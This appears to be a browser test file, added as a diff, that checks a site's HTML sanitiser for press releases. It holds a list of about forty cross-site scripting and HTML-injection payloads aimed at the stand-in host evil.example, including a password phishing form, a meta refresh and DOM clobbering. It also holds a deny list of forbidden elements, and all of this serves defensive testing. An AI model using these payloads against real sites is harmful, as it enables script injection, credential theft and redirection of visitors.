@@ -1,0 +1,179 @@
+import { expect, test } from '#tests/browser/support/test.ts';
+import type { Page } from '#tests/browser/support/test.ts';
+
+/**
+ * HTML from outside, in a real browser: only there do parser, sanitiser and content policy act as they do for a visitor.
+ * Each text is a press release of its own, so that one page shows them all, each in its box.
+ */
+const hostile = [
+  ['a script', '<script>ran()</script>'],
+  ['a script of another site', '<script src="https://evil.example/x.js"></script>'],
+  ['a script in odd spelling', '<ScRiPt/x>ran()</sCrIpT >'],
+  ['a script cut in two', '<scr<script>ipt>ran()</scr</script>ipt>'],
+  ['a picture’s error handler', '<img src="x" onerror="ran()">'],
+  ['a handler without quotes or space', '<img src="/x.svg"onerror=ran()>'],
+  ['a handler behind a slash', '<img/src="/x.svg"/onload=ran()>'],
+  ['a focus handler that focuses itself', '<a href="/x" autofocus onfocus="ran()">x</a>'],
+  ['a pointer handler', '<p onpointerenter="ran()">x</p>'],
+  ['a toggle handler', '<details open ontoggle="ran()"><summary>x</summary></details>'],
+  ['an animation handler', '<svg><animate onbegin="ran()" attributeName="x"></animate></svg>'],
+  ['a drawing with a script', '<svg><script>ran()</script></svg>'],
+  [
+    'a drawing with foreign HTML',
+    '<svg><foreignObject><iframe src="//evil.example"></iframe></foreignObject></svg>',
+  ],
+  [
+    'a formula that hides HTML',
+    '<math><mtext><table><mglyph><style><img src=x onerror=ran()></style></mglyph></table></mtext></math>',
+  ],
+  ['a comment that ends early', '<!--><img src=x onerror=ran()>-->'],
+  ['an attribute that ends early', '<p title="</p><img src=x onerror=ran()>">x</p>'],
+  ['a noscript that ends early', '<noscript><p title="</noscript><img src=x onerror=ran()>"></noscript>'],
+  ['a template', '<template><img src=x onerror=ran()></template>'],
+  ['a link that runs', '<a href="javascript:ran()">x</a>'],
+  ['a link that runs, in disguise', '<a href=" jAva&#x09;script:ran()">x</a>'],
+  ['a link to data', '<a href="data:text/html,<script>ran()</script>">x</a>'],
+  ['a link to a file made here', '<a href="blob:https://lintel.test/1">x</a>'],
+  ['a link without a scheme', '<a href="//evil.example/x">x</a>'],
+  ['a link with a backslash', '<a href="/\\evil.example">x</a>'],
+  ['an insecure link', '<a href="http://evil.example/">x</a>'],
+  ['a frame', '<iframe src="https://evil.example/"></iframe>'],
+  ['a frame with its own text', '<iframe srcdoc="<script>parent.ran()</script>"></iframe>'],
+  ['an object', '<object data="https://evil.example/x"></object><embed src="x">'],
+  ['a style sheet', '<style>body{display:none}</style>'],
+  ['a style sheet of another site', '<link rel="stylesheet" href="https://evil.example/x.css">'],
+  ['a style that covers the page', '<p style="position:fixed;inset:0">x</p>'],
+  ['a class of ours', '<p class="unseen">x</p>'],
+  [
+    'a phishing form',
+    '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
+  ],
+  ['a button of another form', '<button form="search" formaction="https://evil.example">Go</button>'],
+  ['a page that moves on', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
+  ['another base for links', '<base href="https://evil.example/">'],
+  [
+    'a name that hides a property',
+    '<a id="location" name="location" href="/x">x</a><img name="cookie" src="/x.svg">',
+  ],
+  ['a form that hides the root', '<form id="root"><input name="attributes"></form>'],
+  ['a picture that reports a click', '<a href="/x" ping="https://evil.example/">x</a>'],
+  ['a picture of many sources', '<img src="/x.svg" srcset="https://evil.example/1x.png 2x">'],
+  ['an old background', '<table background="https://evil.example/x.png"><tr><td>x</td></tr></table>'],
+  ['a second main part', '<main><nav><header>x</header></nav></main>'],
+  ['a role', '<p role="alert">x</p>'],
+  ['an element that is another', '<p is="x-evil">x</p><x-evil>x</x-evil>'],
+] as const;
+
+const benign = [
+  ['<p>Roof &amp; <b>wall</b>, <em>tested</em></p>', '<p>Roof &amp; <b>wall</b>, <em>tested</em></p>'],
+  ['<ul><li>One</li><li>Two</li></ul>', '<ul><li>One</li><li>Two</li></ul>'],
+  ['<p dir="rtl" lang="ar">لوح عزل</p>', '<p dir="rtl" lang="ar">لوح عزل</p>'],
+  ['<a href="tel:+12185550140">Call</a>', '<a href="tel:+12185550140">Call</a>'],
+  ['<a href="/company/31250">Profile</a>', '<a href="/company/31250">Profile</a>'],
+  ['<p>3 < 4 && "x" > y</p>', '<p>3 &lt; 4 &amp;&amp; "x" &gt; y</p>'],
+  ['<b>Unclosed <i>text', '<b>Unclosed <i>text</i></b>'],
+  ['<h1>Warranty</h1>', '<h1 aria-level="3">Warranty</h1>'],
+  ['<h4>Terms</h4>', '<h4 aria-level="4">Terms</h4>'],
+  [
+    '<table width="9000"><tbody><tr><td colspan="2">A</td></tr></tbody></table>',
+    '<table><tbody><tr><td colspan="2">A</td></tr></tbody></table>',
+  ],
+  ['<img src="/favicon.svg">', '<img src="/favicon.svg" loading="lazy" referrerpolicy="no-referrer" alt="">'],
+  ['<img src="javascript:1" alt="gone">', ''],
+  [
+    '<a href="https://www.northfold.example/">Reps</a>',
+    '<a href="https://www.northfold.example/" target="_blank" rel="noopener noreferrer nofollow">Reps</a>',
+  ],
+] as const;
+
+/** Nothing that runs, styles, frames, asks, or takes a name of the page's own. */
+const forbidden = [
+  'script, style, iframe, frame, frameset, object, embed, applet, base, meta, link, template, noscript, portal',
+  'form, input, button, select, option, textarea, label, dialog, audio, video, source, svg, math, canvas, marquee',
+  'main, nav, header, footer, aside, [id], [name], [class], [style], [tabindex], [autofocus], [contenteditable]',
+  '[srcset], [srcdoc], [formaction], [ping], [popover], [slot], [is]:not([is=""]), [background], [role]',
+].join(', ');
+
+/** The manufacturer's page with these texts as its news, all unfolded; each text's box by its place in the list. */
+async function unfolded(page: Page, texts: readonly string[]) {
+  await page.route('**/api/lintel-alerts/news?*', (route) =>
+    route.fulfill({
+      json: texts.map((html, index) => ({
+        id: index + 1,
+        coid: 31250,
+        company: 'Northfold Roofing Systems',
+        companySlug: 'northfold-roofing-systems',
+        title: `Release ${index + 1}`,
+        summary: '',
+        html,
+        division: '07',
+        sections: [],
+        published_at: '2026-10-01',
+      })),
+    }),
+  );
+  await page.goto('/company/northfold-roofing-systems-31250');
+  const releases = page.getByRole('region', { name: 'News', exact: true }).locator('details');
+  await expect(releases).toHaveCount(texts.length);
+  await releases.evaluateAll((all) => all.forEach((one) => one.setAttribute('open', '')));
+  const boxes = releases.locator('> div > div');
+  await expect(boxes).toHaveCount(texts.length);
+  return boxes;
+}
+
+test('hostile HTML does nothing: no script, no style, no frame, no form, no address of another kind', async ({
+  page,
+}) => {
+  await page.addInitScript(() => {
+    Reflect.set(globalThis, 'ran', () => Reflect.set(globalThis, 'hasRun', true));
+  });
+  const boxes = await unfolded(
+    page,
+    hostile.map(([, html]) => html),
+  );
+  const left = await boxes.evaluateAll(
+    (all, selector) =>
+      all.map((box) => {
+        const elements = [...box.querySelectorAll('*')];
+        const links = elements.flatMap((element) => [
+          element.getAttribute('href'),
+          element.getAttribute('src'),
+        ]);
+        return {
+          elements: [...box.querySelectorAll(selector)].map((element) => element.outerHTML),
+          handlers: elements.flatMap((element) =>
+            element.getAttributeNames().filter((name) => /^on/i.test(name)),
+          ),
+          links: links.filter(
+            (link) => link !== null && !/^(?:https:|mailto:|tel:|\/(?![/\\])|#)/.test(link),
+          ),
+        };
+      }),
+    forbidden,
+  );
+  for (const [index, [what]] of hostile.entries()) {
+    expect(left[index], what).toEqual({ elements: [], handlers: [], links: [] });
+  }
+  expect(await page.evaluate(() => Reflect.get(globalThis, 'hasRun'))).toBeUndefined();
+  await expect(page).toHaveTitle(/^Northfold Roofing Systems/);
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Northfold Roofing Systems');
+});
+
+test('benign HTML stays as the manufacturer wrote it', async ({ page, expected }) => {
+  expected.failingRequest('/favicon.svg');
+  const boxes = await unfolded(
+    page,
+    benign.map(([html]) => html),
+  );
+  const kept = await boxes.evaluateAll((all) => all.map((box) => box.innerHTML));
+  expect(kept).toEqual(benign.map(([, html]) => html));
+});
+
+test('the sample world’s own hostile text shows what is benign in it', async ({ page }) => {
+  await page.goto('/company/31250');
+  const text = page.getByRole('region', { name: 'From Northfold Roofing Systems', exact: true });
+  await expect(text.getByRole('link', { name: 'Find a representative' })).toBeVisible();
+  await expect(text.locator('iframe, form, input, style, script, svg, [style]')).toHaveCount(0);
+  await expect(text.getByText('Installation guide')).not.toHaveAttribute('href');
+  expect(await page.evaluate(() => Reflect.get(globalThis, 'northfoldRan'))).toBeUndefined();
+});
